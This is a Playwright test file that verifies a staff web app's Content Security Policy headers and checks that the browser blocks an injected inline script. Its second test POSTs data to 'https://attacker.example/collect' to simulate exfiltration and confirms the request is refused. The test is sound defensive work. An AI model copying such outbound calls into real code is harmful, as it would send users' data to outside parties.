/**
 * The staff app as the host serves it (its preview, the production build): every path carries
 * the headers of staff/headers.ts, and the browser enforces them. An injected inline script does
 * not run, a request to anywhere but the project is refused, and the app itself, which every other
 * staff test drives under the same policy, needs nothing more.
 */
import { randomUUID } from 'node:crypto';
import { LOCAL_SUPABASE_URL } from '@ankerlicht/vite-config';
import { staffHeaders } from '@ankerlicht/staff/headers';
import { expect, test } from '../support/site.ts';

// The browser reports each refusal this test provokes.
test.use({ allowedConsoleErrors: [/Content Security Policy/] });

test('every path is served with the policy: the app, a registration’s address, a file', async ({ request }) => {
  const expected = staffHeaders(LOCAL_SUPABASE_URL);
  for (const path of ['/', `/registraties/${randomUUID()}`, '/index.html']) {
    const response = await request.get(path);
    expect(response.status(), path).toBe(200);
    const headers = response.headers();
    for (const [name, value] of Object.entries(expected)) expect(headers[name.toLowerCase()], `${path} ${name}`).toBe(value);
  }
});

test('an injected inline script does not run, and nothing is sent outside the project', async ({ page }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1, name: 'Inloggen' })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.body.append(script);
    const sent = await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'refused',
    );
    // Violation events are dispatched asynchronously.
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { ran: 'injected' in window, sent, violations };
  });
  expect(outcome).toEqual({ ran: false, sent: 'refused', violations: ['script-src-elem', 'connect-src'] });
});
